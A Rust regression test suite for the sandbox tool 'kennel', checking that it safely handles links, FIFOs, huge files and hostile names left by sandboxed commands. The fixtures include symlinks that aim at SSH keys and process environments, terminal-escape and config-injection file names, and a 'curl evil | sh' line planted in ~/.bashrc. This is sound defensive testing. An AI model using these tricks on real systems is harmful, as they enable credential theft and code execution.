#![allow(clippy::panic, clippy::unwrap_used, clippy::expect_used)] // test code may panic
//! Regression tests for issue 17, items 4 to 7: what kennel reads, writes and prints on the
//! sandbox's behalf (DESIGN.md, "The seams"). Each runs the attack as the test user in a
//! real sandbox: a link, a FIFO, a device or a huge file left where kennel reads or writes,
//! names that would act on the terminal or widen the suggested config.

mod common;

use std::fs;
use std::io::Read;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::{sandbox_available, stderr, stdout, Fixture, SECRET};

/// Runs `cmd` and fails the test when it has not ended after `secs` seconds (it is killed):
/// kennel must never hang on what the sandbox left.
fn within(secs: u64, cmd: &mut Command) -> Output {
    let mut child = cmd
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = child.stdout.take().unwrap();
    let mut err = child.stderr.take().unwrap();
    let out_reader = std::thread::spawn(move || {
        let mut v = Vec::new();
        let _ = out.read_to_end(&mut v);
        v
    });
    let err_reader = std::thread::spawn(move || {
        let mut v = Vec::new();
        let _ = err.read_to_end(&mut v);
        v
    });
    let deadline = Instant::now() + Duration::from_secs(secs);
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            let err = String::from_utf8_lossy(&err_reader.join().unwrap()).into_owned();
            panic!("kennel did not end within {secs} s (killed): {err}");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    Output {
        status,
        stdout: out_reader.join().unwrap(),
        stderr: err_reader.join().unwrap(),
    }
}

/// `kennel run ARGS -- sh -c SCRIPT` in the repository, which must end within a minute.
fn kennel_run(fx: &Fixture, args: &[&str], script: &str) -> Output {
    let out = kennel_run_unchecked(fx, args, script);
    common::assert_kennel_started(&out);
    out
}

/// As [`kennel_run`], for a run whose setup is expected to fail (exit 125).
fn kennel_run_unchecked(fx: &Fixture, args: &[&str], script: &str) -> Output {
    within(
        60,
        fx.kennel()
            .arg("run")
            .args(args)
            .args(["--", "sh", "-c", script])
            .current_dir(&fx.repo),
    )
}

fn mode(path: &Path) -> u32 {
    fs::symlink_metadata(path).unwrap().mode() & 0o7777
}

/// The claude profile copies `~/.claude.json` back at exit. Whatever the command leaves in
/// its place, kennel ends promptly, copies nothing it should not, and keeps the real file.
#[test]
fn copy_back_never_follows_or_blocks_on_what_the_sandbox_left() {
    let fx = Fixture::new("copyback-attacks");
    if !sandbox_available(&fx) {
        return;
    }
    copy_back_attacks(&fx, "native");
}

#[test]
fn copy_back_on_the_systemd_backend_never_follows_or_blocks() {
    if common::skip_without_user_manager() {
        return;
    }
    // The claude profile's allow-list network is the native backend's only.
    copy_back_attacks(&Fixture::new("copyback-attacks-systemd"), "systemd");
}

fn copy_back_attacks(fx: &Fixture, backend: &str) {
    let real = fx.home.join(".claude.json");
    for (what, script) in [
        (
            "a link to a secret",
            "rm ~/.claude.json; ln -s \"$HOME/.ssh/id_ed25519\" ~/.claude.json",
        ),
        (
            "a link to kennel's environment",
            "rm ~/.claude.json; ln -s /proc/self/environ ~/.claude.json",
        ),
        (
            "a link to /dev/zero",
            "rm ~/.claude.json; ln -s /dev/zero ~/.claude.json",
        ),
        ("a FIFO", "rm ~/.claude.json; mkfifo ~/.claude.json"),
        (
            "a file of 65 MiB",
            "rm ~/.claude.json; truncate -s 65M ~/.claude.json",
        ),
    ] {
        fx.write(&real, "{\"mine\": true}\n");
        fs::set_permissions(&real, fs::Permissions::from_mode(0o600)).unwrap();
        let mut args = vec!["--backend", backend, "--profile", "claude"];
        if backend == "systemd" {
            args.extend(["--net", "off"]);
        }
        let out = kennel_run(fx, &args, script);
        let err = stderr(&out);
        assert!(out.status.success(), "{backend}, {what}: {err}");
        assert_eq!(
            fs::read_to_string(&real).unwrap(),
            "{\"mine\": true}\n",
            "{backend}, {what}: the real file was overwritten"
        );
        assert_eq!(mode(&real), 0o600, "{what}");
        assert!(
            err.contains("~/.claude.json was not copied back"),
            "{what}: {err}"
        );
        assert!(!err.contains(SECRET), "{what}: {err}");
    }
}

/// A copied-back file keeps its mode (login tokens stay 0600), and a new one is 0600.
#[test]
fn copy_back_keeps_the_real_files_mode() {
    let fx = Fixture::new("copyback-mode");
    if !sandbox_available(&fx) {
        return;
    }
    let real = fx.home.join(".claude.json");
    fx.write(&real, "{}\n");
    fs::set_permissions(&real, fs::Permissions::from_mode(0o600)).unwrap();
    let out = kennel_run(
        &fx,
        &["--profile", "claude"],
        "echo '{\"new\": 1}' > ~/.claude.json.tmp && mv ~/.claude.json.tmp ~/.claude.json",
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(fs::read_to_string(&real).unwrap(), "{\"new\": 1}\n");
    assert_eq!(mode(&real), 0o600);
    // A file that did not exist before is created private.
    fs::remove_file(&real).unwrap();
    let out = kennel_run(
        &fx,
        &["--profile", "claude"],
        "umask 0; echo '{}' > ~/.claude.json",
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(mode(&real), 0o600);
}

/// Another session, or the user, changed the real file while the sandbox ran: it is kept,
/// and the sandbox's version is put beside it, with a message.
#[test]
fn copy_back_does_not_overwrite_a_file_changed_meanwhile() {
    let fx = Fixture::new("copyback-conflict");
    if !sandbox_available(&fx) {
        return;
    }
    let real = fx.home.join(".claude.json");
    fx.write(&real, "{\"v\": 0}\n");
    fs::set_permissions(&real, fs::Permissions::from_mode(0o600)).unwrap();
    let go = fx.repo.join("go");
    let child = fx
        .kennel()
        .args(["run", "--profile", "claude", "--", "sh", "-c"])
        .arg(
            "echo '{\"v\": \"sandbox\"}' > ~/.claude.json; echo ready > ready; \
             while [ ! -e go ]; do sleep 0.05; done",
        )
        .current_dir(&fx.repo)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    assert!(
        common::eventually(30, || fx.repo.join("ready").exists()),
        "the sandbox did not start"
    );
    let edit = fx.as_user("echo '{\"v\": \"user\"}' > \"$HOME/.claude.json\"");
    assert!(edit.status.success());
    let touched = fx.as_user(&format!("touch '{}'", go.display()));
    assert!(touched.status.success());
    let out = child.wait_with_output().unwrap();
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    assert_eq!(fs::read_to_string(&real).unwrap(), "{\"v\": \"user\"}\n");
    assert!(
        err.contains("~/.claude.json changed outside the sandbox"),
        "{err}"
    );
    let beside: Vec<_> = fs::read_dir(&fx.home)
        .unwrap()
        .flatten()
        .filter(|e| {
            e.file_name()
                .to_string_lossy()
                .starts_with(".claude.json.kennel-conflict-")
        })
        .map(|e| e.path())
        .collect();
    assert_eq!(beside.len(), 1, "{err}");
    assert_eq!(
        fs::read_to_string(&beside[0]).unwrap(),
        "{\"v\": \"sandbox\"}\n"
    );
    assert_eq!(mode(&beside[0]), 0o600);
    let name = beside[0]
        .file_name()
        .unwrap()
        .to_string_lossy()
        .into_owned();
    assert!(err.contains(&format!("~/{name}")), "{err}");
}

/// In a kept home, a dangling link or a FIFO left at the copied file's name must not make
/// the next start create a file elsewhere (a login script) or hang.
#[test]
fn copy_in_to_a_kept_home_never_writes_through_what_was_left() {
    for (what, left) in [
        (
            "a dangling link",
            "rm -f ~/.claude.json; ln -s \"$HOME/.bash_profile\" ~/.claude.json",
        ),
        ("a FIFO", "rm -f ~/.claude.json; mkfifo ~/.claude.json"),
        (
            "a link to a folder above",
            "rm -f ~/.claude.json; ln -s \"$HOME/.ssh\" ~/.claude.json",
        ),
    ] {
        let fx = Fixture::new("copyin-kept");
        if !sandbox_available(&fx) {
            return;
        }
        let real = fx.home.join(".claude.json");
        fx.write(&real, "{\"login\": \"token\"}\n");
        let args = ["--profile", "claude", "--home", "persistent"];
        let out = kennel_run(&fx, &args, left);
        assert!(out.status.success(), "{what}: {}", stderr(&out));
        let out = kennel_run(&fx, &args, "cat ~/.claude.json");
        assert!(out.status.success(), "{what}: {}", stderr(&out));
        assert_eq!(stdout(&out), "{\"login\": \"token\"}\n", "{what}");
        assert!(
            !fx.home.join(".bash_profile").exists(),
            "{what}: the copy-in wrote through the link"
        );
        assert_eq!(
            fs::read_dir(fx.home.join(".ssh")).unwrap().count(),
            1,
            "{what}"
        );
        assert_eq!(
            fs::read_to_string(&real).unwrap(),
            "{\"login\": \"token\"}\n",
            "{what}"
        );
    }
}

/// The repository's `.kennel.toml` (anyone who can commit chose it) and the user's config:
/// a link to `/dev/zero`, a FIFO or a huge file is a prompt, precise error; the user's config
/// may still be a link to a regular file (home-manager links it into the Nix store).
#[test]
fn config_files_are_bounded_regular_files_read_without_blocking() {
    let fx = Fixture::new("config-files");
    let repo_config = fx.repo.join(".kennel.toml");
    for (what, make, expected) in [
        (
            "a link to /dev/zero",
            format!("ln -s /dev/zero '{}'", repo_config.display()),
            "symbolic link",
        ),
        (
            "a link to a regular file",
            format!(
                "echo 'version = 1' > \"$HOME/elsewhere.toml\"; ln -s \"$HOME/elsewhere.toml\" '{}'",
                repo_config.display()
            ),
            "symbolic link",
        ),
        (
            "a FIFO",
            format!("mkfifo '{}'", repo_config.display()),
            "a FIFO, not a regular file",
        ),
        (
            "a huge file",
            format!("truncate -s 2M '{}'", repo_config.display()),
            "larger than 1 MiB",
        ),
    ] {
        let _ = fs::remove_file(&repo_config);
        assert!(fx.as_user(&make).status.success(), "{what}");
        let out = kennel_run(&fx, &[], "true");
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(2), "{what}: {err}");
        assert!(
            err.contains(".kennel.toml") && err.contains(expected),
            "{what}: {err}"
        );
    }
    // Its keys reach the error message: escaped, never a terminal command.
    fs::remove_file(&repo_config).unwrap();
    fx.write(
        &repo_config,
        "version = 1\n\"\\u001b]0;pwn\\u0007\\nkennel: forged\" = 1\n",
    );
    let out = kennel_run(&fx, &[], "true");
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(!err.contains('\u{1b}') && !err.contains('\u{7}'), "{err:?}");
    assert!(err.contains("\\e]0;pwn\\u{7}"), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
    fs::remove_file(&repo_config).unwrap();
    let config = fx.home.join(".config/kennel/config.toml");
    for (what, make, expected) in [
        (
            "a link to /dev/zero",
            "ln -s /dev/zero \"$HOME/.config/kennel/config.toml\"",
            "a character device, not a regular file",
        ),
        (
            "a FIFO",
            "mkfifo \"$HOME/.config/kennel/config.toml\"",
            "a FIFO, not a regular file",
        ),
        (
            "a huge file",
            "truncate -s 2M \"$HOME/.config/kennel/config.toml\"",
            "larger than 1 MiB",
        ),
    ] {
        let _ = fs::remove_file(&config);
        assert!(
            fx.as_user(&format!("mkdir -p \"$HOME/.config/kennel\"; {make}"))
                .status
                .success(),
            "{what}"
        );
        let out = kennel_run(&fx, &[], "true");
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(2), "{what}: {err}");
        assert!(
            err.contains("config.toml") && err.contains(expected),
            "{what}: {err}"
        );
    }
    // A link to a regular file (home-manager's) is followed: its error is the file's own.
    fs::remove_file(&config).unwrap();
    let store = fx.dir.join("store-config.toml");
    fx.write(&store, "version = 1\n[defaults]\nno-such-key = 1\n");
    std::os::unix::fs::symlink(&store, &config).unwrap();
    let out = kennel_run(&fx, &[], "true");
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("no-such-key"), "{}", stderr(&out));
}

/// `--net-log FILE` where an earlier sandbox left a link to `~/.bashrc`, or a FIFO: refused,
/// promptly, and nothing is appended to the link's target.
#[test]
fn the_network_log_is_never_opened_through_a_link_or_on_a_fifo() {
    let fx = Fixture::new("netlog-link");
    if !sandbox_available(&fx) {
        return;
    }
    fx.user_config("version = 1\n[defaults.network]\nmode = \"allow-list\"\nallow = []\n");
    let bashrc = fx.home.join(".bashrc");
    let before = fs::read_to_string(&bashrc).unwrap();
    let log = fx.repo.join("net.log");
    for (what, make, expected) in [
        (
            "a link to ~/.bashrc",
            format!("ln -s \"$HOME/.bashrc\" '{}'", log.display()),
            "symbolic link",
        ),
        (
            "a FIFO",
            format!("mkfifo '{}'", log.display()),
            "not a regular file",
        ),
    ] {
        let _ = fs::remove_file(&log);
        assert!(fx.as_user(&make).status.success(), "{what}");
        let out = kennel_run_unchecked(&fx, &["--net-log", "net.log"], "true");
        let err = stderr(&out);
        assert!(!out.status.success(), "{what}: {err}");
        assert!(
            err.contains("network log") && err.contains(expected),
            "{what}: {err}"
        );
        assert_eq!(fs::read_to_string(&bashrc).unwrap(), before, "{what}");
    }
    // A new log is private, and a CONNECT target holding tabs and an escape cannot start a
    // field of it nor act on a terminal showing it (a bare newline in the head is refused
    // by the proxy before any decision: 400, nothing to log).
    fs::remove_file(&log).unwrap();
    fx.write(
        &fx.repo.join("connect.py"),
        "import socket\n\
         s = socket.create_connection(('127.0.0.1', 3128), timeout=10)\n\
         s.sendall(b'CONNECT evil\\t1.0\\tallowed\\x1bforged:443 HTTP/1.1\\r\\n\\r\\n')\n\
         print(s.recv(200).split(b'\\r\\n')[0].decode())\n",
    );
    let out = kennel_run(&fx, &["--net-log", "net.log"], "python3 connect.py");
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(mode(&log), 0o600);
    let logged = fs::read_to_string(&log).unwrap();
    assert!(stdout(&out).contains("403"), "{} {logged}", stdout(&out));
    assert_eq!(logged.lines().count(), 1, "{logged}");
    assert!(!logged.contains('\t'), "{logged:?}");
    assert!(
        logged.contains("evil\\t1.0\\tallowed\\eforged:443"),
        "{logged}"
    );
}

/// Names the command chose reach the terminal escaped, and the suggested config is one
/// path per name, whatever the name holds.
#[test]
fn the_exit_listing_escapes_names_and_suggests_only_what_was_named() {
    let fx = Fixture::new("listing-names");
    if !sandbox_available(&fx) {
        return;
    }
    let out = kennel_run(
        &fx,
        &[],
        r#"mkdir -p "$HOME/.x\"}, { path = \"~\u002F.ssh\" }, {" && echo a > "$HOME/.x\"}, { path = \"~\u002F.ssh\" }, {/f";
           mkdir -p "$HOME/.y\"}, { path = \"~/.ssh\" }, {" && echo a > "$HOME/.y\"}, { path = \"~/.ssh\" }, {/f";
           mkdir -p "$HOME/$(printf 'e\033]52;c;ZXZpbA==\007')" && echo b > "$HOME/$(printf 'e\033]52;c;ZXZpbA==\007')/f";
           echo c > "$HOME/$(printf 'n\nkennel: all clear')""#,
    );
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    assert!(
        !err.contains('\u{1b}') && !err.contains('\u{7}'),
        "raw control characters: {err:?}"
    );
    assert!(!err.contains("\nkennel: all clear"), "{err}");
    assert!(err.contains("~/e\\e]52;c;ZXZpbA==\\u{7}/f"), "{err}");
    assert!(err.contains("~/n\\nkennel: all clear"), "{err}");
    assert!(err.contains("2 of them are not suggested"), "{err}");
    let line = err
        .lines()
        .find_map(|l| {
            l.strip_prefix("kennel:")?
                .trim()
                .strip_prefix("read-write = ")
        })
        .unwrap_or_else(|| panic!("no suggestion: {err}"));
    let parsed: toml::Table = toml::from_str(&format!("x = {line}")).unwrap();
    let entries = parsed["x"].as_array().unwrap();
    let paths: Vec<&str> = entries.iter().filter_map(|e| e["path"].as_str()).collect();
    // Each name is one path, exactly as written (a `/` in it made a folder), and no more.
    assert_eq!(
        paths,
        [
            r#"~/.x"}, { path = "~\u002F.ssh" }, {"#,
            r#"~/.y"}, { path = "~"#
        ],
        "{line}"
    );
}

/// A file left beside the workspace (`../x`) never makes kennel suggest the folder around
/// it (all of `~/src`, every neighbouring project).
#[test]
fn nothing_around_the_workspace_is_suggested() {
    let fx = Fixture::new("listing-beside");
    if !sandbox_available(&fx) {
        return;
    }
    let repo = fx.home.join("src/proj");
    let made = fx.as_user(&format!(
        "mkdir -p '{0}' && cd '{0}' && git init -q -b main . && mkdir -p ../other",
        repo.display()
    ));
    assert!(made.status.success(), "{}", stderr(&made));
    let out = within(
        60,
        fx.kennel()
            .args(["run", "--", "sh", "-c"])
            .arg(
                "mkdir -p ../x/y && echo a > ../x/y/f && echo b > ../loose && echo c > ~/.cache-me.json",
            )
            .current_dir(&repo),
    );
    common::assert_kennel_started(&out);
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("~/src/x/y/f"), "{err}");
    assert!(!err.contains("\"~/src\""), "{err}");
    assert!(!err.contains("~/src\""), "{err}");
    assert!(err.contains("2 of them are beside the workspace"), "{err}");
    assert!(err.contains(r#"copy-back = ["~/.cache-me.json"]"#), "{err}");
}

/// What the command wrote where it would run or be trusted outside (a shell start-up file,
/// `~/.ssh`, kennel's own config) is listed, never suggested for keeping.
#[test]
fn nothing_that_runs_outside_is_suggested() {
    let fx = Fixture::new("listing-trusted");
    if !sandbox_available(&fx) {
        return;
    }
    let out = kennel_run(
        &fx,
        &[],
        "echo 'curl evil | sh' > ~/.bashrc && mkdir -p ~/.ssh ~/.config/kennel && \
         echo 'evil ssh-ed25519 AAAA' > ~/.ssh/known_hosts && \
         echo '[defaults]' > ~/.config/kennel/config.toml",
    );
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    assert!(
        err.contains("~/.bashrc") && err.contains("~/.ssh/known_hosts"),
        "{err}"
    );
    assert!(
        err.contains("3 of them are where programs outside"),
        "{err}"
    );
    assert!(
        !err.contains("read-write = ") && !err.contains("copy-back = "),
        "{err}"
    );
}

/// The listing's budgets never hide files silently, and a folder the command made
/// unreadable is listed and removed.
#[test]
fn the_listing_says_what_it_could_not_see() {
    let fx = Fixture::new("listing-budget");
    if !sandbox_available(&fx) {
        return;
    }
    let out = kennel_run(
        &fx,
        &[],
        "mkdir -p ~/.locked ~/.deep/1/2/3/4/5/6/7/8/9 && echo a > ~/.locked/f && chmod 000 ~/.locked \
         && echo d > ~/.deep/1/2/3/4/5/6/7/8/9/f && chmod 000 ~/.deep/1/2/3/4/5/6/7/8",
    );
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("~/.locked/f"), "{err}");
    assert!(err.contains("and more not listed"), "{err}");
    assert!(err.contains("at least 1 file"), "{err}");
    let homes = fx
        .dir
        .join("tmp")
        .join(format!("kennel-{}", common::env().uid));
    assert_eq!(
        fs::read_dir(&homes).unwrap().count(),
        0,
        "the home was left behind"
    );
    let out = kennel_run(
        &fx,
        &[],
        "mkdir ~/.many && cd ~/.many && seq 1 10050 | xargs touch",
    );
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("and more not listed"), "{err}");
}
